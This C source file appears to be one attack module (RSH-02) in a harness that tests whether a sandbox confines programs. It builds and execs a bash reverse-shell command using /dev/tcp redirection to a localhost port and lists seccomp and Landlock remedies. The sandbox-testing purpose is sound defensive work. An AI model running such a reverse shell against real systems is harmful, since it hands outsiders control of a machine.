// SPDX-License-Identifier: MIT
/*
 * Goal:  somebody outside gives the orders.
 * Means: bash opens /dev/tcp/HOST/PORT as a connection. No file of that name exists, the student's
 *        program has no network code, and a scanner of sources finds a string.
 */
#include "attacks/attack.h"

#include <stdio.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	char line[96];

	snprintf(line, sizeof(line), "exec /bin/sh <>/dev/tcp/127.0.0.1/%u >&0 2>&0", b->shell);
	alarm(4); /* survives execve: the shell ends with it */
	attempting(b);
	execl("/bin/bash", "bash", "-c", line, (char *)NULL);
	return denied("execve /bin/bash");
}

const struct attack attack = {
	.effect = "somebody outside gives the orders",
	.means = "bash's own /dev/tcp redirection",
	.oracle = "shell",
	.needs = NEED_BASH,
	.id = "RSH-02",
	.attack_id = "T1059.004, T1095, CWE-668",
	.remedy = "seccomp without socket(2); no execve; Landlock without connecting",
	.refs = (const char *const[]){ "bash(1), REDIRECTION", NULL },
	.run = run,
};
